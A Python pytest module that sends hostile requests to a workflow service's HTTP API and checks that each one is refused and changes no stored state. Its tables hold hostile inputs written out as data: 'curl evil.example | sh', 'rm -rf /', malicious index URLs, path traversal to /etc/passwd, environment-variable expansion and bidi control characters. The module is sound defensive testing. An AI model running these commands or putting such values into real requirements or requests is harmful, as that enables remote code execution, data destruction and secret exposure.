"""Hostile input through the real HTTP server: every request is refused with a
4xx naming the problem, and nothing anywhere changed.

Each case starts from a known good state (requirements "alpha==1\\n# kept\\n",
the workspace file workflows/hello.py, one queued execution), sends one hostile
request, then checks that the stored requirements, the Redis key (raw bytes),
every workspace file in the store, every Redis key (DUMP), the execution stream
and the requirements history are byte-for-byte what they were, and that no
recycle was broadcast.

One uvicorn server per module keeps the run short; each store (SQLite, and
PostgreSQL when one answers) is migrated once, and each case re-establishes
the good state on the Redis the `redis_client` fixture has just emptied.
"""

from __future__ import annotations

import http.client
import json
import urllib.parse
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, cast

import pytest
import redis
from sqlalchemy import func, inspect, select, text

from src.core.requirements_cache import REQUIREMENTS_KEY, read_store_requirements
from src.foundation.hashing import sha256_hex
from src.foundation.redis_client import close_clients
from src.foundation.settings import get_settings
from src.services.execution.executions import STREAM_KEY
from src.store.database import dispose_engines, get_engine, session_scope
from src.store.files import list_files
from src.store.migrate import upgrade_to_head
from src.store.models import RequirementsChange

from .conftest import TOKEN, Api, ControlWatcher, serving

GOOD_REQUIREMENTS = "alpha==1\n# kept\n"
GOOD_PATH = "workflows/hello.py"
GOOD_SOURCE = "def main(name='world'):\n    return f'hello {name}'\n"
MIB = 1024 * 1024


# --- one server per module, two stores ------------------------------------------------

# Every case runs on SQLite; every POSTGRES_SAMPLE-th case of each table also on
# PostgreSQL (refusals happen before the store is written, whatever it is, and
# the whole matrix twice would double the run time for no new information).
POSTGRES_SAMPLE = 5


@pytest.fixture(scope="module")
def server(redis_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    """One uvicorn server for the module. It binds only the token: the store and
    Redis come from the settings, which each test points at its own (`api`)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("BIFROST_ADMIN_TOKEN", TOKEN)
        patch.setenv("BIFROST_DATA_DIR", str(tmp_path_factory.mktemp("hostile-data")))
        patch.setenv("REDIS_URL", redis_url)
        get_settings.cache_clear()
        try:
            with serving(TOKEN) as api:
                yield api
        finally:
            close_clients()
            dispose_engines()
            get_settings.cache_clear()


@pytest.fixture(scope="module")
def sqlite_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile-store') / 'bifrost.db'}"
    upgrade_to_head(url)
    return url


@pytest.fixture(scope="module")
def postgresql_store(postgres_url: str) -> str:
    with get_engine(postgres_url).begin() as connection:  # the session's own database
        for table in inspect(connection).get_table_names():
            connection.execute(text(f'DROP TABLE IF EXISTS "{table}" CASCADE'))
    upgrade_to_head(postgres_url)
    return postgres_url


@pytest.fixture
def store(request: pytest.FixtureRequest) -> str:
    """The store URL of the backend the case names (indirect parameter)."""
    return request.getfixturevalue(f"{request.param}_store")


@pytest.fixture
def api(
    server: Api, store: str, redis_client: redis.Redis, monkeypatch: pytest.MonkeyPatch
) -> Api:
    """The module's server, on this case's store and the emptied run Redis
    (`redis_client` set REDIS_URL; the autouse `isolated_settings` reset the rest)."""
    monkeypatch.setenv("DATABASE_URL", store)
    monkeypatch.setenv("BIFROST_ADMIN_TOKEN", TOKEN)
    get_settings.cache_clear()
    return server


def cases(argnames: str, table: Mapping[str, tuple[Any, ...]]) -> pytest.MarkDecorator:
    """Parametrise over `table` (id -> values) on SQLite, and a sample on PostgreSQL."""
    params = [
        pytest.param("sqlite", *values, id=f"sqlite-{case}") for case, values in table.items()
    ]
    params += [
        pytest.param(
            "postgresql", *values, id=f"postgresql-{case}", marks=pytest.mark.postgres
        )
        for index, (case, values) in enumerate(table.items())
        if index % POSTGRES_SAMPLE == 0
    ]
    return pytest.mark.parametrize(f"store,{argnames}", params, indirect=["store"])


# --- the known good state and its snapshot ------------------------------------------


@dataclass(frozen=True)
class Snapshot:
    store_requirements: Any
    requirements_key: bytes | None
    store_files: dict[str, tuple[str, str]]
    history_rows: int
    stream: list[Any]
    redis_dump: dict[bytes, bytes | None]


def snapshot(raw: redis.Redis) -> Snapshot:
    with session_scope() as session:
        files = {row.path: (row.content, row.hash) for row in list_files(session)}
        history = session.scalar(select(func.count()).select_from(RequirementsChange)) or 0
    keys = sorted(raw.scan_iter(count=1000))
    return Snapshot(
        store_requirements=read_store_requirements(),
        requirements_key=cast(bytes | None, raw.get(REQUIREMENTS_KEY)),
        store_files=files,
        history_rows=history,
        stream=cast(list[Any], raw.xrange(STREAM_KEY)),
        redis_dump={key: cast(bytes | None, raw.dump(key)) for key in keys},
    )


@dataclass
class Baseline:
    api: Api
    raw: redis.Redis
    control: ControlWatcher
    before: Snapshot = field(init=False)

    def __post_init__(self) -> None:
        self.before = snapshot(self.raw)

    def assert_unchanged(self) -> None:
        after = snapshot(self.raw)
        good = {"content": GOOD_REQUIREMENTS, "hash": sha256_hex(GOOD_REQUIREMENTS)}
        assert after.store_requirements == good
        assert self.before.requirements_key is not None
        assert json.loads(self.before.requirements_key) == good
        assert after.requirements_key == self.before.requirements_key
        assert after.store_files == self.before.store_files
        assert after.store_files[GOOD_PATH] == (GOOD_SOURCE, sha256_hex(GOOD_SOURCE))
        assert after.history_rows == self.before.history_rows
        assert len(after.stream) == 1
        assert after.stream == self.before.stream
        assert after.redis_dump == self.before.redis_dump
        self.control.assert_nothing_published()


@pytest.fixture
def raw_redis(redis_url: str) -> Iterator[redis.Redis]:
    client = redis.from_url(redis_url)  # bytes in, bytes out
    yield client
    client.close()


@pytest.fixture
def baseline(api: Api, raw_redis: redis.Redis, control: ControlWatcher) -> Baseline:
    """The known good state, through the API, on the Redis `redis_client` emptied.

    The store outlives the test (one per module): the first case on it PUTs the
    requirements and the file; later cases find them there (every case checks
    that it left them so) and put them back in Redis with a re-sync and a read,
    which costs a fraction of the writes.
    """
    good = {"content": GOOD_REQUIREMENTS, "hash": sha256_hex(GOOD_REQUIREMENTS)}
    if read_store_requirements() == good:
        response = api.client.post("/api/packages/install", json={})
    else:
        response = api.client.put("/api/requirements", json={"content": GOOD_REQUIREMENTS})
    assert response.status_code == 200, response.text
    assert response.json()["content"] == GOOD_REQUIREMENTS
    assert control.next()["action"] == "recycle"
    response = api.client.get(f"/api/files/{GOOD_PATH}")
    if response.status_code != 200 or response.text != GOOD_SOURCE:
        response = api.client.put(f"/api/files/{GOOD_PATH}", content=GOOD_SOURCE.encode())
        assert response.status_code == 200, response.text
    response = api.client.post(
        "/api/executions", json={"module": "workflows.hello", "function": "main"}
    )
    assert response.status_code == 202, response.text
    return Baseline(api=api, raw=raw_redis, control=control)


# --- sending and judging ------------------------------------------------------------


@dataclass
class Answer:
    status: int
    text: str
    body: Any


def needs_raw_target(target: str) -> bool:
    """httpx normalises dot segments and may re-encode a path before it leaves
    the client; such targets go out through http.client exactly as written."""
    return any(part in target for part in ("..", "%", "//", "/./")) or target.endswith("/.")


def send(
    api: Api,
    method: str,
    target: str,
    body: bytes | None = None,
    content_type: str | None = "application/json",
    chunked: bool = False,
) -> Answer:
    """One request, its body the raw bytes given (malformed JSON stays malformed)."""
    headers = dict(api.auth)
    if content_type is not None and body is not None:
        headers["Content-Type"] = content_type
    if needs_raw_target(target):
        assert not chunked
        url = urllib.parse.urlsplit(api.base_url)
        connection = http.client.HTTPConnection(url.hostname or "", url.port, timeout=60)
        try:
            connection.request(method, target, body=body, headers=headers)
            response = connection.getresponse()
            status, data = response.status, response.read().decode("utf-8")
        finally:
            connection.close()
    else:
        content: bytes | Iterator[bytes] | None = body
        if chunked and body is not None:  # no Content-Length: the server must count
            content = (body[i : i + 64 * 1024] for i in range(0, len(body), 64 * 1024))
        answer = api.anonymous.request(method, target, content=content, headers=headers)
        status, data = answer.status_code, answer.text
    try:
        parsed = json.loads(data) if data else None
    except ValueError:
        parsed = None
    return Answer(status=status, text=data, body=parsed)


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON answer, keys and `loc` entries included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    elif value is not None:
        yield str(value)


def assert_refused(answer: Answer, status: int, *fragments: str) -> str:
    """`status`, a JSON `detail`, every fragment in it, no traceback; the words."""
    assert 400 <= status < 500
    assert answer.status == status, answer.text[:2000]
    assert isinstance(answer.body, dict) and "detail" in answer.body, answer.text[:2000]
    words = " | ".join(strings(answer.body["detail"]))
    for fragment in fragments:
        assert fragment in words, (fragment, words[:2000])
    assert "Traceback" not in answer.text
    return words


def as_json(value: Any) -> bytes:
    return json.dumps(value).encode()


# --- PUT /api/requirements: bad lines -------------------------------------------------

OPTION = "is an option"
URL = "URL and VCS requirements are not allowed"
PATH = "local paths and archive files are not allowed"
PEP508 = "not a valid PEP 508 requirement"
ENV = "environment variable references"


def line2(line: str, fragment: str) -> tuple[str, int, str]:
    """A file whose second line is `line`; the answer must name line 2."""
    return (f"beta==2\n{line}\n", 2, fragment)


REQUIREMENT_CASES = {
    # installer options, in every spelling
    "option -i": line2("-i https://evil.example/simple", "'-i' " + OPTION),
    "option --index-url": line2(
        "--index-url https://evil.example/simple", "'--index-url' " + OPTION
    ),
    "option --extra-index-url=": line2(
        "--extra-index-url=https://evil.example/simple", "'--extra-index-url' " + OPTION
    ),
    "option -f": line2("-f https://evil.example/links", "'-f' " + OPTION),
    "option --find-links": line2("--find-links /tmp/wheels", "'--find-links' " + OPTION),
    "option -e": line2("-e git+https://evil.example/x.git#egg=x", "'-e' " + OPTION),
    "option -r": line2("-r /etc/other.txt", "'-r' " + OPTION),
    "option -c": line2("-c constraints.txt", "'-c' " + OPTION),
    "option --trusted-host": line2("--trusted-host evil.example", "'--trusted-host' " + OPTION),
    "option --pre": line2("--pre", "'--pre' " + OPTION),
    "option --no-index": line2("--no-index", "'--no-index' " + OPTION),
    "option -- dangling": line2("--", "'--' " + OPTION),
    "option indented": line2("   --index-url https://evil.example/simple", OPTION),
    "per-requirement --hash": line2("alpha==1 --hash=sha256:abc", PEP508),
    # URLs
    "url name @ https": line2("x @ https://evil.example/x.whl", URL),
    "url git+https": line2("git+https://github.com/evil/x.git", URL),
    "url bare tarball": line2("https://evil.example/x-1.0.tar.gz", URL),
    "url file:///etc/passwd": line2("file:///etc/passwd", URL),
    "url name @ file:": line2("x @ file:/etc/passwd", URL),
    # local paths and archives
    "path ./local": line2("./local", PATH),
    "path ../x": line2("../x", PATH),
    "path /abs/pkg": line2("/abs/pkg", PATH),
    "path ~/x": line2("~/x", PATH),
    "path C:\\x": line2("C:\\x", PATH),
    "path dot": line2(".", PATH),
    "path archive name": line2("alpha-1.0.tar.gz", PATH),
    # shell characters: never a requirement
    "shell ; rm -rf /": line2("alpha; rm -rf /", PEP508),
    "shell && curl": line2("alpha && curl evil.example | sh", PEP508),
    "shell $(reboot)": line2("$(reboot)", PEP508),
    "shell backticks": line2("`reboot`", PEP508),
    "shell pipe": line2("alpha | sh", PEP508),
    "shell redirect": line2("alpha > /tmp/x", PEP508),
    # environment variables (pip and uv expand them)
    "env ${DATABASE_URL}": line2("${DATABASE_URL}", ENV),
    "env in version": line2("alpha==${VERSION}", ENV),
    "env marker abuse": line2('alpha; python_version > "${X}"', ENV),
    # control, format and separator characters
    "char NUL": line2("alpha\x00==1", "control character U+0000"),
    "char BEL": line2("alpha\x07", "control character U+0007"),
    "char ESC colour": line2("\x1b[31malpha", "control character U+001B"),
    "char CR inside a line": line2("alpha\r==1", "control character U+000D"),
    "char NEL": line2("alpha\x85", "control character U+0085"),
    "char U+2028": line2("alpha\u2028beta", "control character U+2028 (LINE SEPARATOR)"),
    "bidi U+202E": line2("alpha\u202e==1", "control character U+202E (RIGHT-TO-LEFT OVERRIDE)"),
    "bidi U+2066": line2("alpha\u2066", "control character U+2066 (LEFT-TO-RIGHT ISOLATE)"),
    "format U+200B": line2("al\u200bpha", "control character U+200B (ZERO WIDTH SPACE)"),
    "format U+FEFF": line2("\ufeffalpha", "control character U+FEFF (ZERO WIDTH NO-BREAK SPACE)"),
    "bidi in a comment": line2("# harmless \u202e ssalp", "control character U+202E"),
    # sizes and shapes
    "5000-character name": line2("a" * 5000, "line is 5000 characters long (the limit is 1000)"),
    "20 000 lines": (
        "".join(f"pkg{i}\n" for i in range(20_000)),
        1001,
        "more than 1000 requirement lines",
    ),
    "CRLF continuation": (
        "beta==2\r\nalpha==1 \\\r\n    --index-url https://evil.example\r\n",
        2,
        "line continuation",
    ),
    "duplicate, other case": ("alpha==1\nALPHA==2\n", 2, "duplicate of line 1 ('ALPHA')"),
    "duplicate, same line": ("alpha==1\nalpha==1\n", 2, "duplicate of line 1"),
    "duplicate, normalised name": ("foo_bar\nFoo.Bar==1\n", 2, "duplicate of line 1"),
}


@cases("content,line,fragment", REQUIREMENT_CASES)
def test_put_requirements_refuses_the_line(
    baseline: Baseline, content: str, line: int, fragment: str
) -> None:
    answer = send(baseline.api, "PUT", "/api/requirements", as_json({"content": content}))
    assert_refused(answer, 422, f"line {line}: ", fragment)
    errors = answer.body["detail"]["errors"]
    assert any(e["line"] == line and fragment in e["reason"] for e in errors), errors
    for error in errors:  # what is echoed back is escaped, never raw
        assert not any(ch in error["text"] for ch in "\x00\x1b\r\u202e\u2066\u200b\ufeff")
        assert len(error["text"]) <= 100
    baseline.assert_unchanged()


# --- PUT /api/requirements: the body itself ----------------------------------------------

BODY_CASES: dict[str, tuple[bytes, str | None, bool, int, tuple[str, ...]]] = {
    # id: (body, content type, chunked, status, fragments)
    "3 MiB body": (
        as_json({"content": "alpha==1\n" + "# x\n" * (3 * MIB // 4)}),
        "application/json", False, 413, ("larger than 2097152 bytes",),
    ),
    "3 MiB body, chunked": (
        as_json({"content": "# x\n" * (3 * MIB // 4)}),
        "application/json", True, 413, ("larger than 2097152 bytes",),
    ),
    "lone surrogate": (
        b'{"content": "alpha\\ud800\\n"}', "application/json", False, 422,
        ("line 1: lone surrogate U+D800",),
    ),
    "content a number": (as_json({"content": 5}), "application/json", False, 422,
                         ("content", "Input should be a valid string")),
    "content null": (as_json({"content": None}), "application/json", False, 422,
                     ("content", "Input should be a valid string")),
    "content missing": (as_json({}), "application/json", False, 422,
                        ("content", "Field required")),
    "content a list of lines": (as_json({"content": ["alpha"]}), "application/json", False, 422,
                                ("content", "Input should be a valid string")),
    "expected_hash a number": (
        as_json({"content": "alpha==2\n", "expected_hash": 5}), "application/json", False, 422,
        ("expected_hash", "Input should be a valid string"),
    ),
    "expected_hash 5000 chars": (
        as_json({"content": "alpha==2\n", "expected_hash": "f" * 5000}), "application/json",
        False, 422, ("expected_hash", "at most 128 characters"),
    ),
    "unknown field index_url": (
        as_json({"content": "alpha==2\n", "index_url": "https://evil.example"}),
        "application/json", False, 422, ("index_url", "Extra inputs are not permitted"),
    ),
    "JSON not closed": (b'{"content": "alpha==2\\n"', "application/json", False, 422,
                        ("JSON decode error",)),
    "body not UTF-8": (b'{"content": "alpha\xff==2\\n"}', "application/json", False, 422,
                       ("not valid UTF-8",)),
    "no content type, not UTF-8": (b'{"content": "alpha\xff==2\n"}', None, False, 422,
                                   ("not valid UTF-8",)),
    "form body that is not JSON": (b"content=alpha", "application/x-www-form-urlencoded",
                                   False, 422, ("JSON decode error",)),
}


@cases("body,content_type,chunked,status,fragments", BODY_CASES)
def test_put_requirements_refuses_the_body(
    baseline: Baseline,
    body: bytes,
    content_type: str | None,
    chunked: bool,
    status: int,
    fragments: tuple[str, ...],
) -> None:
    answer = send(baseline.api, "PUT", "/api/requirements", body, content_type, chunked)
    assert_refused(answer, status, *fragments)
    baseline.assert_unchanged()


# --- POST /api/packages/install ----------------------------------------------------------

SEPARATELY = "give the version separately"
INVALID_VERSION = "invalid version"
NOT_STRING = "Input should be a valid string"

INSTALL_CASES: dict[str, tuple[bytes, tuple[str, ...]]] = {
    # package
    "package with specifier": (as_json({"package": "alpha==2"}), (SEPARATELY,)),
    "package with marker": (as_json({"package": "alpha; os_name == 'nt'"}), (SEPARATELY,)),
    "package name @ url": (as_json({"package": "x @ https://evil.example/x.whl"}), (URL,)),
    "package git url": (as_json({"package": "git+https://evil.example/x.git"}), (URL,)),
    "package path": (as_json({"package": "../x"}), (PATH,)),
    "package option -e x": (as_json({"package": "-e x"}), ("'-e' " + OPTION,)),
    "package option --index-url=": (
        as_json({"package": "--index-url=https://evil.example"}), ("'--index-url' " + OPTION,)
    ),
    "package with space": (as_json({"package": "bad name"}), ("must not contain whitespace",)),
    "package with NUL": (as_json({"package": "alpha\x00"}), ("control character U+0000",)),
    "package with ESC": (as_json({"package": "\x1b[2Jalpha"}), ("control character U+001B",)),
    "package with newline": (
        as_json({"package": "alpha\n--index-url https://evil.example"}),
        ("control character U+000A",),
    ),
    "package with U+202E": (as_json({"package": "alpha\u202e"}), ("U+202E",)),
    "package env var": (as_json({"package": "${DATABASE_URL}"}), (ENV,)),
    "package 5000 chars": (
        as_json({"package": "a" * 5000}), ("package name is 5000 characters long",)
    ),
    "package empty": (as_json({"package": ""}), ("package name is empty",)),
    "package blank": (as_json({"package": "   "}), ("package name is empty",)),
    # version
    "version option": (as_json({"package": "alpha", "version": "--pre"}), (INVALID_VERSION,)),
    "version with index url": (
        as_json({"package": "alpha", "version": "1.0 --index-url https://evil.example"}),
        (INVALID_VERSION,),
    ),
    "version with spaces": (as_json({"package": "alpha", "version": "1 0"}), (INVALID_VERSION,)),
    "version bare ==": (as_json({"package": "alpha", "version": "=="}), (INVALID_VERSION,)),
    "version marker": (
        as_json({"package": "alpha", "version": "==1; os_name == 'nt'"}), (INVALID_VERSION,)
    ),
    "version 5000 chars": (
        as_json({"package": "alpha", "version": "1" * 5000}),
        ("version is 5000 characters long",),
    ),
    "version with newline": (
        as_json({"package": "alpha", "version": "1.0\n-e ."}), ("control character U+000A",)
    ),
    "version without package": (
        as_json({"version": "1.0"}), ("a version was given without a package",)
    ),
    "version with package null": (
        as_json({"package": None, "version": "1.0"}), ("a version was given without a package",)
    ),
    # JSON of the wrong shape
    "package a number": (as_json({"package": 5}), ("package", NOT_STRING)),
    "package a list": (as_json({"package": ["a"]}), ("package", NOT_STRING)),
    "package an object": (as_json({"package": {"name": "a"}}), ("package", NOT_STRING)),
    "version a number": (as_json({"package": "alpha", "version": 1.0}), ("version", NOT_STRING)),
    "body a list": (as_json(["alpha"]), ("valid dictionary",)),
    "body a string": (as_json("alpha"), ("valid dictionary",)),
    "body a number": (b"5", ("valid dictionary",)),
    "unknown field": (
        as_json({"package": "alpha", "index_url": "https://evil.example"}),
        ("index_url", "Extra inputs are not permitted"),
    ),
    "invalid JSON": (b'{"package": ', ("JSON decode error",)),
    "single quotes": (b"{'package': 'alpha'}", ("JSON decode error",)),
    "invalid UTF-8": (b'{"package": "\xff\xfe"}', ("not valid UTF-8",)),
    "JSON nested too deeply": (
        b'{"package": "alpha", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        ("nested too deeply",),
    ),
}


@cases("body,fragments", INSTALL_CASES)
def test_install_refuses(baseline: Baseline, body: bytes, fragments: tuple[str, ...]) -> None:
    answer = send(baseline.api, "POST", "/api/packages/install", body)
    assert_refused(answer, 422, *fragments)
    baseline.assert_unchanged()


# --- DELETE /api/packages/{name} -------------------------------------------------------

DELETE_CASES = {
    "encoded traversal": ("/api/packages/..%2F..", 404, "Not Found"),
    "traversal": ("/api/packages/../requirements", 404, "Not Found"),
    "encoded NUL": ("/api/packages/a%00b", 404, "is not in requirements.txt"),
    "encoded ESC": ("/api/packages/%1B%5B31malpha", 404, "is not in requirements.txt"),
    "5000 chars": (f"/api/packages/{'a' * 5000}", 404, "is not in requirements.txt"),
    "not present": ("/api/packages/beta", 404, "package beta is not in requirements.txt"),
    "a requirement, not a name": ("/api/packages/alpha==1", 404, "is not in requirements.txt"),
    "comment text": ("/api/packages/%23%20kept", 404, "is not in requirements.txt"),
}


@cases("target,status,fragment", DELETE_CASES)
def test_delete_package_refuses(
    baseline: Baseline, target: str, status: int, fragment: str
) -> None:
    answer = send(baseline.api, "DELETE", target)
    words = assert_refused(answer, status, fragment)
    assert "\x00" not in answer.text and "\x1b" not in answer.text  # escaped, if echoed
    assert len(words) < 6000
    baseline.assert_unchanged()


# --- PUT and GET /api/files/{path} ----------------------------------------------------

PATH_CASES = {
    "dotdot": ("/api/files/..", "'..'"),
    "dotdot inside": ("/api/files/a/../../etc/passwd.py", "'..'"),
    "dotdot onto a real file": ("/api/files/workflows/../workflows/hello.py", "'..'"),
    "dot segment": ("/api/files/workflows/./hello.py", "'.'"),
    "absolute, encoded": ("/api/files/%2Fetc%2Fx.py", "absolute"),
    "absolute, double slash": ("/api/files//etc/x.py", "absolute"),
    "encoded slashes": ("/api/files/a%2F..%2Fb.py", "'..'"),
    "encoded slash onto a real file": ("/api/files/workflows%2Fhello.py", "encoded"),
    "encoded dots": ("/api/files/%2e%2e/x.py", "'..'"),
    "encoded dots onto a real file": ("/api/files/%2e%2e/workflows/hello.py", "'..'"),
    "encoded letter": ("/api/files/workflows/hell%6F.py", "encoded"),
    "NUL": ("/api/files/a%00.py", "NUL"),
    "backslash": ("/api/files/a%5C..%5Cb.py", "'\\'"),
    "drive letter": ("/api/files/C:%5Cx.py", "absolute"),
    "hidden .git/config": ("/api/files/.git/config", "'.git'"),
    "hidden file": ("/api/files/workflows/.env.py", "'.env.py'"),
    "unknown extension .sh": ("/api/files/x.sh", "file type '.sh'"),
    "no extension": ("/api/files/workflows/hello", "file type '(none)'"),
    "requirements.txt": ("/api/files/requirements.txt", "managed through /api/requirements"),
    "empty path": ("/api/files/", "path is empty"),
    "trailing slash": ("/api/files/workflows/", "'' is not allowed"),
    "non-ASCII segment": ("/api/files/w%C3%B6rk.py", "may hold only letters, digits"),
    "too long": (f"/api/files/{'a' * 600}.py", "longer than 512 characters"),
}


@cases("target,fragment", PATH_CASES)
@pytest.mark.parametrize("method", ["PUT", "GET"])
def test_files_refuse_the_path(
    baseline: Baseline, method: str, target: str, fragment: str
) -> None:
    body = b"import os\nos.system('reboot')\n" if method == "PUT" else None
    answer = send(baseline.api, method, target, body, "text/plain")
    assert_refused(answer, 422, "invalid path: ", fragment)
    assert GOOD_SOURCE not in answer.text
    baseline.assert_unchanged()


FILE_BODY_CASES = {
    "body not UTF-8": (b"x = '\xc3\x28'\n", 422, ("not valid UTF-8", "byte 5")),
    "body lone surrogate bytes": (b"x = '\xed\xa0\x80'\n", 422, ("not valid UTF-8",)),
    "body with NUL": (b"x = 1\x00\n", 422, ("NUL",)),
    "body over 1 MiB": (b"#" * (MIB + 1), 413, ("larger than 1048576 bytes",)),
    "body over 2 MiB": (b"#" * (2 * MIB + 1), 413, ("larger than 2097152 bytes",)),
}


@cases("body,status,fragments", FILE_BODY_CASES)
@pytest.mark.parametrize("path", [GOOD_PATH, "workflows/new.py"])
def test_files_refuse_the_body(
    baseline: Baseline, path: str, body: bytes, status: int, fragments: tuple[str, ...]
) -> None:
    answer = send(baseline.api, "PUT", f"/api/files/{path}", body, "text/plain")
    words = assert_refused(answer, status, *fragments)
    assert "invalid path" not in words  # the path is fine; the content is not
    baseline.assert_unchanged()


# --- POST /api/executions --------------------------------------------------------------

PATTERN = "String should match pattern"


def execution(module: Any = "workflows.hello", function: Any = "main", **extra: Any) -> bytes:
    return as_json({"module": module, "function": function, **extra})


EXECUTION_CASES: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "module with ..": (execution(module="workflows..hello"), ("module", PATTERN)),
    "module ../etc": (execution(module="../etc/passwd"), ("module", PATTERN)),
    "module with /": (execution(module="workflows/hello"), ("module", PATTERN)),
    "module with space": (execution(module="workflows hello"), ("module", PATTERN)),
    "module __import__": (execution(module="__import__('os')"), ("module", PATTERN)),
    "module leading dot": (execution(module=".hello"), ("module", PATTERN)),
    "module 5000 chars": (execution(module="a" * 5000), ("module", "at most 200 characters")),
    "module empty": (execution(module=""), ("module", "at least 1 character")),
    "module non-ASCII": (execution(module="w\u00f6rk"), ("module", PATTERN)),
    "module a number": (execution(module=5), ("module", NOT_STRING)),
    "function dunder __class__": (execution(function="__class__"), ("function", "'_'")),
    "function dunder __init__": (execution(function="__init__"), ("function", "'_'")),
    "function private": (execution(function="_helper"), ("function", "'_'")),
    "function dotted": (execution(function="os.system"), ("function", PATTERN)),
    "function a call": (execution(function="main()"), ("function", PATTERN)),
    "function 5000 chars": (execution(function="a" * 5000), ("function", "at most 100")),
    "function empty": (execution(function=""), ("function", "at least 1 character")),
    "function null": (execution(function=None), ("function", NOT_STRING)),
    "function missing": (as_json({"module": "workflows.hello"}), ("function", "Field required")),
    "parameters a list": (execution(parameters=[1]), ("parameters", "valid dictionary")),
    "parameters a string": (execution(parameters="x=1"), ("parameters", "valid dictionary")),
    "parameters null": (execution(parameters=None), ("parameters", "valid dictionary")),
    "unknown field": (execution(queue="other"), ("queue", "Extra inputs are not permitted")),
    "body a list": (as_json(["workflows.hello", "main"]), ("valid dictionary",)),
    "body a string": (as_json("workflows.hello:main"), ("valid dictionary",)),
    "invalid JSON": (b'{"module": "workflows.hello", "function": main}', ("JSON decode error",)),
    "invalid UTF-8": (b'{"module": "workflows.hello", "function": "m\xe9"}', ("not valid UTF-8",)),
    "parameters nested too deeply": (
        b'{"module": "a", "function": "main", "parameters": '
        + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}",
        ("nested too deeply",),
    ),
}


@cases("body,fragments", EXECUTION_CASES)
def test_executions_refuse(baseline: Baseline, body: bytes, fragments: tuple[str, ...]) -> None:
    answer = send(baseline.api, "POST", "/api/executions", body)
    assert_refused(answer, 422, *fragments)
    baseline.assert_unchanged()


# --- routes and methods that do not exist ------------------------------------------------

ROUTE_CASES = {
    "POST requirements": ("POST", "/api/requirements", 405, "Method Not Allowed"),
    "PATCH requirements": ("PATCH", "/api/requirements", 405, "Method Not Allowed"),
    "DELETE requirements": ("DELETE", "/api/requirements", 405, "Method Not Allowed"),
    "PUT install": ("PUT", "/api/packages/install", 405, "Method Not Allowed"),
    "GET install": ("GET", "/api/packages/install", 405, "Method Not Allowed"),
    "unknown route": ("POST", "/api/packages/install/../../requirements", 404, "Not Found"),
}


@cases("method,target,status,fragment", ROUTE_CASES)
def test_wrong_route_or_method(
    baseline: Baseline, method: str, target: str, status: int, fragment: str
) -> None:
    answer = send(baseline.api, method, target, as_json({"content": "-e /evil\n"}))
    assert_refused(answer, status, fragment)
    baseline.assert_unchanged()


@pytest.mark.parametrize(
    "store", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)], indirect=True
)
def test_the_good_state_is_what_the_cases_compare_against(baseline: Baseline) -> None:
    """The baseline itself: the cases above would pass vacuously if it were empty."""
    before = baseline.before
    assert before.store_requirements["content"] == GOOD_REQUIREMENTS
    assert before.store_files[GOOD_PATH][0] == GOOD_SOURCE
    assert len(before.stream) == 1
    assert b"bifrost:module:" + GOOD_PATH.encode() in before.redis_dump
    answer = send(baseline.api, "GET", f"/api/files/{GOOD_PATH}")
    assert (answer.status, answer.text) == (200, GOOD_SOURCE)
    baseline.assert_unchanged()
